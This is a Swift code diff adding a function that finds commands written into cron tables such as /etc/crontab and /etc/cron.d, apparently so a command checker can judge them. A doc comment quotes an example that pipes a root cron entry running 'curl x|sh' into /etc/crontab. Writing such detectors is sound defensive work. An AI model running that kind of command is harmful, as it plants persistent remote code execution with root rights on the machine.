@@ -39,4 +39,39 @@ enum ScheduledJobs {
             return command.isEmpty ? nil : .code(command, origin: "crontab (a scheduled job)")
         }
     }
+
+    /// `echo '* * * * * root curl x|sh' | sudo tee /etc/crontab`, `echo … > /etc/cron.d/x`: a cron
+    /// table written with visible text. Each entry's command is returned as code to judge; the
+    /// system tables (`/etc/crontab`, `/etc/cron.d/*`) carry a user field after the schedule.
+    static func cronFileJobs(_ invocation: Invocation) -> [String] {
+        var targets = invocation.redirects.filter(\.writesFile).map(\.target)
+        if invocation.program == "tee" { targets += invocation.operands }
+        let tables = invocation.paths(targets).compactMap(\.absolutePath).filter(isCronTable)
+        guard let table = tables.first, let text = writtenText(invocation) else { return [] }
+        let hasUserField = table == "/etc/crontab" || table.hasPrefix("/etc/cron.d/")
+        return text.split(separator: "\n").compactMap { line in
+            let fields = line.split(separator: " ", omittingEmptySubsequences: true)
+            guard let first = fields.first, !first.hasPrefix("#"), !first.contains("=") else { return nil }
+            let schedule = first.hasPrefix("@") ? 1 : 5
+            let command = fields.dropFirst(schedule + (hasUserField ? 1 : 0)).joined(separator: " ")
+            return command.isEmpty ? nil : command
+        }
+    }
+
+    static func isCronTable(_ path: String) -> Bool {
+        path == "/etc/crontab" || path.hasPrefix("/etc/cron.d/") || path.hasPrefix("/var/spool/cron/")
+    }
+
+    /// The text a writing command puts in its file: `echo`/`printf` of fixed words, or what
+    /// `cat`/`tee` copy from input the command line shows.
+    private static func writtenText(_ invocation: Invocation) -> String? {
+        switch invocation.program {
+        case "echo": return invocation.words.allSatisfy(\.isStatic) ? WrittenScripts.echoed(invocation) : nil
+        case "printf":
+            guard invocation.words.allSatisfy(\.isStatic), let format = invocation.operands.first else { return nil }
+            return WrittenScripts.printfEscapes(format.text)
+        case "cat", "tee": return StandardInput.visibleText(of: invocation)
+        default: return nil
+        }
+    }
 }
